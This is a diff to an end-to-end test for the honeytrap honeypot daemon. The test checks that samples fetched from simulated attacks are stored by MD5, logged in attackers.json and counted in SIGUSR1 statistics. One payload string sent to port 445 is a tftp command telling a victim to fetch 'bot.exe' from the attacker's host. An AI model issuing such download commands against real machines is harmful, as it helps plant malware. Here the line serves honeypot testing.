@@ -1,18 +1,26 @@
 """End to end through the daemon: an attacker tells its 'victim' to fetch malware; honeytrap's
 dynamic server records the attack, the download plugins fetch the sample from the attacker's
-own server, SaveFile stores it under its MD5 and attackers.json lists it on the attack."""
+own server, SaveFile stores it under its MD5 and attackers.json lists it on the attack; the
+plugins' download counts reach SIGUSR1's statistics line."""
 
 from __future__ import annotations
 
 import base64
 import hashlib
 import os
+import signal
 import socket
+import time
 from pathlib import Path
 
 import download_servers
 from daemon import Honeytrap, nfq_rules
 from netns import Lab, inside
+
+from honeytrap.recorder import STATS_INTERVAL
+
+# SIGUSR1 is sent this often while waiting for the recorder's next statistics.
+SIGNAL_INTERVAL = 1.0
 
 
 def attack(lab: Lab, port: int, payload: bytes) -> None:
@@ -24,6 +32,26 @@ def attack(lab: Lab, port: int, payload: bytes) -> None:
         sock.recv(65536)
     finally:
         sock.close()
+
+
+def statistics_with(ht: Honeytrap, wanted: str, timeout: float) -> dict[str, str]:
+    """Send SIGUSR1 every SIGNAL_INTERVAL until the last statistics line it logged carries
+    `wanted` (name=value), or `timeout`; that line's fields. The recorder reports the plugins'
+    statistics every STATS_INTERVAL, so the master may know them only some seconds after the
+    event."""
+    deadline = time.monotonic() + timeout
+    fields: dict[str, str] = {}
+    while wanted not in [f"{k}={v}" for k, v in fields.items()]:
+        if time.monotonic() > deadline:
+            break
+        ht.signal(signal.SIGUSR1)
+        time.sleep(SIGNAL_INTERVAL)
+        lines = [line for line in ht.logfile.read_text(errors="replace").splitlines()
+                 if "statistics: " in line]
+        if lines:
+            text = lines[-1].split("statistics: ", 1)[1]
+            fields = dict(field.partition("=")[::2] for field in text.split())
+    return fields
 
 
 def test_downloads_found_in_attacks_land_under_their_md5_and_in_attackers_json(
@@ -57,6 +85,10 @@ plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
         assert tftp_port == 69  # Windows' tftp knows no other port
         attack(lab, 445, f"tftp -i {lab.attacker.ip4} GET bot.exe\r\n".encode())
         records = ht.wait_records(3, timeout=60)
+        # three samples fetched (the decoded PowerShell line's too), counted by the plugins
+        stats = statistics_with(ht, "downloads=3", timeout=2 * STATS_INTERVAL + 10)
+        assert stats.get("downloads") == "3", stats
+        assert "download_failures" in stats
     finally:
         assert ht.stop() == 0
     md5 = hashlib.md5(sample).hexdigest()
